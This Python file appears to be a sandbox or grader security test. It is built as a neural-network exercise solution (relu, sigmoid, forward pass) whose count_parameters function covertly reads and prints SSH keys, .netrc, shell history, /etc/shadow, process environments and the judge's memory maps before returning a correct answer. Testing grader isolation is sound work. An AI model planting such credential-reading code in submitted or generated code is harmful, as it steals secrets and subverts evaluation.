# attack: prints keys and the environment of every process
# exercise: exercise1
# expect: others=passed
# must-not: read-canary
import numpy as np


def relu(z):
    return np.maximum(z, 0.0)


def sigmoid(z):
    small = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0, small) / (1.0 + small)


def tanh(z):
    return np.tanh(z)


def softmax(z):
    e = np.exp(z - z.max(axis=1, keepdims=True))
    return e / e.sum(axis=1, keepdims=True)


def linear(a, W, b):
    return a @ W + b


def forward(params, X):
    n = len(params) // 2
    for i in range(1, n):
        X = relu(linear(X, params[f"W{i}"], params[f"b{i}"]))
    return sigmoid(linear(X, params[f"W{n}"], params[f"b{n}"]))


def predict(params, X):
    return (forward(params, X) > 0.5).astype(int)


def count_parameters(layer_sizes):
    import os

    places = [os.path.expanduser(p) for p in ("~/.ssh/id_ed25519", "~/.netrc", "~/.bash_history", "/etc/shadow")]
    places += [f"/proc/{n}/environ" for n in (1, 2, os.getpid(), os.getppid(), "self")] + ["@JUDGE@/environ", "@JUDGE@/maps"]
    for place in places:
        try:
            print(open(place, "rb").read(10000))
        except OSError:
            pass
    print(dict(os.environ))
    return sum((i + 1) * o for i, o in zip(layer_sizes, layer_sizes[1:]))
